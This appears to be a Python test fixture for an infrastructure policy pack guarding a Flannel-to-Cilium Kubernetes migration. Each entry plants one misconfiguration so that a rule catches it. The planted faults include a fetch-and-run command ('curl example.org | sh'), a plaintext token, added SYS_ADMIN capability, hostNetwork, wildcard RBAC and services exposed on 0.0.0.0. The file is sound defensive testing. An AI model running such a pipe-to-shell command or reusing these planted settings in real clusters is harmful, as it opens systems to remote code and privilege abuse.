"""For each rule of the policy pack one thing that it must find, planted in a good state."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from engine.policy_states import State

OUTSIDE = "kubernetes:apps/v1:Deployment"


@dataclass(frozen=True, kw_only=True)
class Fault:
    """`plant` edits a good state of `stack`; `rule` must then speak of the resource `where`, and say `says`."""

    rule: str
    where: str
    says: str
    plant: Callable[[State], object]
    stack: str = "cilium"
    settings: dict[str, Any] = field(default_factory=dict[str, Any])


def _unprivileged_no_more(state: State) -> None:
    state.add("sidecar", "migration-traffic-server", OUTSIDE)["inputs"]["spec"]["template"]["spec"].update(
        hostNetwork=True, volumes=[]
    )


def _second_cni(state: State) -> None:
    state.add("flannel", "cilium", "cni-migration:index:Flannel")


def _without_gate(state: State) -> None:
    release = state.resources["cilium-release"]
    release["dependencies"] = [urn for urn in release["dependencies"] if not urn.endswith("::migration-gate")]


def _small_subnet(state: State) -> None:
    kind = state.inputs("cluster-kind")
    assert "10.244.0.0/16" in kind["stdin"]
    kind["stdin"] = kind["stdin"].replace("10.244.0.0/16", "10.244.0.0/23")


def _open_to_the_network(state: State) -> None:
    kind = state.inputs("cluster-kind")
    assert "listenAddress: 127.0.0.1" in kind["stdin"]
    kind["stdin"] = kind["stdin"].replace("listenAddress: 127.0.0.1", "listenAddress: 0.0.0.0")


def _interrupting(state: State) -> None:
    state.outputs["migration"] = {"interrupts": True}


FAULTS = [
    Fault(
        rule="image-tag-pinned",
        where="probes-pod",
        says=":latest names no version; write the tag",
        plant=lambda state: state.container("probes-pod").update(image="registry.local/probe:latest"),
    ),
    Fault(
        rule="image-tag-pinned",
        where="flannel-daemonset",
        says="registry.local:5000/flannel names no version",
        stack="flannel",
        plant=lambda state: state.container("flannel-daemonset").update(image="registry.local:5000/flannel"),
    ),
    Fault(
        rule="public-image-by-digest",
        where="flannel-daemonset",
        says="write ghcr.io/flannel-io/flannel:v0.28.4@sha256:",
        stack="flannel",
        plant=lambda state: state.container("flannel-daemonset").update(image="ghcr.io/flannel-io/flannel:v0.28.4"),
    ),
    Fault(
        rule="cilium-native-routing",
        where="cilium-release",
        says="take it out of cilium.values",
        plant=lambda state: state.values().update(routingMode="tunnel"),
    ),
    Fault(
        rule="cilium-replaces-kube-proxy",
        where="cilium-release",
        says="nobody would serve Services",
        plant=lambda state: state.values().update(kubeProxyReplacement=False),
    ),
    Fault(
        rule="cilium-hubble-on",
        where="cilium-release",
        says="values.hubble.relay.enabled is not true",
        plant=lambda state: state.values()["hubble"]["relay"].update(enabled=False),
    ),
    Fault(
        rule="cilium-routes-the-pod-subnet",
        where="cilium-release",
        says="is not the cluster's podSubnet 10.244.0.0/16",
        plant=lambda state: state.values().update(ipv4NativeRoutingCIDR="10.0.0.0/8"),
    ),
    Fault(
        rule="one-cni",
        where="cni-migration-cilium",
        says="the stack has cilium, flannel",
        plant=_second_cni,
    ),
    Fault(
        rule="no-privileges",
        where="sidecar",
        says="hostNetwork is true; only the CNI and the probes",
        plant=_unprivileged_no_more,
    ),
    Fault(
        rule="no-privileges",
        where="probes-host",
        says="capabilities SYS_ADMIN are added; take them out",
        plant=lambda state: state.container("probes-host")["securityContext"]["capabilities"]["add"].append(
            "SYS_ADMIN"
        ),
    ),
    Fault(
        rule="no-plain-secret-inputs",
        where="migration-evict",
        says="environment.REGISTRY_TOKEN is in the clear",
        plant=lambda state: state.inputs("migration-evict")["environment"].update(REGISTRY_TOKEN="hunter2"),
    ),
    Fault(
        rule="no-plain-secret-outputs",
        where="cni-migration-cilium",
        says="the output kubeconfig is in the clear",
        plant=lambda state: state.outputs["cni-migration-cilium"].update(kubeconfig="apiVersion: v1"),
    ),
    Fault(
        rule="kubeconfig-is-secret",
        where="cluster-kind",
        says="set additional_secret_outputs",
        plant=lambda state: state.resources["cluster-kind"].pop("additionalSecretOutputs"),
    ),
    Fault(
        rule="gate-first",
        where="cilium-release",
        says="it does not wait for migration-gate",
        plant=_without_gate,
    ),
    Fault(
        rule="gate-ignores-nothing",
        where="migration-gate",
        says="ignores changes of triggers: no migration would open it",
        plant=lambda state: state.resources["migration-gate"].update(ignoreChanges=["triggers"]),
    ),
    Fault(
        rule="cluster-never-replaced",
        where="cluster-kind",
        says="a new one would replace it, which deletes the cluster",
        plant=lambda state: state.inputs("cluster-kind").update(triggers=["1"]),
    ),
    Fault(
        rule="commands-are-steps",
        where="migration-evict",
        says="its create is no step of this project",
        plant=lambda state: state.inputs("migration-evict").update(create="curl example.org | sh"),
    ),
    Fault(
        rule="pod-subnet-fits",
        where="cluster-kind",
        says="choose a prefix of /22 or shorter for cluster.podSubnet",
        plant=_small_subnet,
    ),
    Fault(
        rule="serving-cluster-not-interrupted",
        where="migration",
        says="set migration:strategy to rolling",
        plant=_interrupting,
        settings={"servingClusters": ["c"]},
    ),
    Fault(
        rule="no-exposed-service",
        where="probes-service",
        says="use ClusterIP and kubectl port-forward",
        plant=lambda state: state.inputs("probes-service")["spec"].update(type="LoadBalancer"),
    ),
    Fault(
        rule="no-exposed-service",
        where="cilium-release",
        says="values.hubble.ui.service.type is reached from outside",
        plant=lambda state: state.values()["hubble"]["ui"]["service"].update(type="LoadBalancer"),
    ),
    Fault(
        rule="no-exposed-service",
        where="cilium-release",
        says="values.hubble.relay.service.type is reached from outside",
        plant=lambda state: state.values()["hubble"]["relay"].update(service={"type": "NodePort"}),
    ),
    Fault(
        rule="no-exposed-service",
        where="cluster-kind",
        says="a port of the cluster listens on 0.0.0.0",
        plant=_open_to_the_network,
    ),
    Fault(
        rule="narrow-rbac",
        where="migration-traffic-role",
        says="«*» in verbs: name those that are needed",
        plant=lambda state: state.inputs("migration-traffic-role")["rules"][0].update(verbs=["*"]),
    ),
    Fault(
        rule="explicit-provider",
        where="probes-service",
        says="set provider=cluster.provider",
        plant=lambda state: state.resources["probes-service"].pop("provider"),
    ),
    Fault(
        rule="provider-survives-its-cluster",
        where="cluster-kubernetes",
        says="delete_unreachable is not set",
        plant=lambda state: state.inputs("cluster-kubernetes").pop("deleteUnreachable"),
    ),
    Fault(
        rule="chart-pinned",
        where="cilium-release",
        says="set cilium.version to x.y.z",
        plant=lambda state: state.inputs("cilium-release").update(version=">=1.19"),
    ),
    Fault(
        rule="pods-say-what-they-need",
        where="migration-traffic-host",
        says="requests no memory; set resources.requests",
        plant=lambda state: state.container("migration-traffic-host")["resources"]["requests"].pop("memory"),
    ),
]
